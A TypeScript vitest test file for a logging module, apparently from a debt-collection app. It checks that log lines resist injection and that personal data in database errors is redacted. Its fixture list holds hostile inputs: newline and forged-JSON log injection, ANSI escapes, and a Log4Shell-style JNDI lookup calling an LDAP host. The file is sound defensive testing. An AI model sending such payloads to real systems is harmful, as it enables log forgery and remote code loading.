import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import { createLog } from "./log.ts";

const folder = mkdtempSync(join(tmpdir(), "recaudo-log-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
let files = 0;
function written(write: (log: ReturnType<typeof createLog>) => void): readonly Record<string, unknown>[] {
  const file = join(folder, `${++files}.log`);
  write(createLog("prueba", file));
  return readFileSync(file, "utf8")
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

const naughty = [
  'a\nb {"level":60}',
  "\r\n\r\nHTTP/1.1 200 OK",
  "\u2028\u2029\u0000\u001b[31mrojo",
  '"}\n{"level":30,"msg":"falso',
  "$" + "{jndi:ldap://203.0.113.9/a}",
  "\ud800 solo",
  "%n%s%x",
];

test("whatever a field holds, each event is one line and one JSON object that says what was meant", () => {
  const lines = written((log) => {
    for (const text of naughty) log.warn({ name: text, [text]: 1 }, "row refused");
  });
  expect(lines).toHaveLength(naughty.length);
  expect(lines.map(({ msg, level }) => [msg, level])).toEqual(naughty.map(() => ["row refused", 40]));
});

test("an error of the database is told without the row it quotes, nor any document or number", () => {
  const error = Object.assign(
    new Error('invalid input syntax for type date: "12.345.678-5" +56 9 8765 4321'),
    {
      code: "22007",
      table: "debtor",
      detail: "Failing row contains (Rosa Quilodrán, 12345678-5, +56987654321)",
      where: "COPY line 3: 12345678-5",
      parameters: ["Rosa Quilodrán"],
    },
  );
  const [asError, asText, personal] = written((log) => {
    log.error({ err: error }, "request failed");
    log.error({ err: error.message }, "import failed");
    log.info({ pii: { phone: "+56987654321" } }, "dialled");
  });
  expect(asError).toMatchObject({ err: { type: "Error", code: "22007", table: "debtor" } });
  expect(asText).toMatchObject({ err: expect.stringContaining("invalid input syntax for type date") });
  for (const line of [asError, asText, personal]) {
    const text = JSON.stringify(line);
    expect(text).not.toMatch(/Rosa|12\.?345|8765/);
  }
});
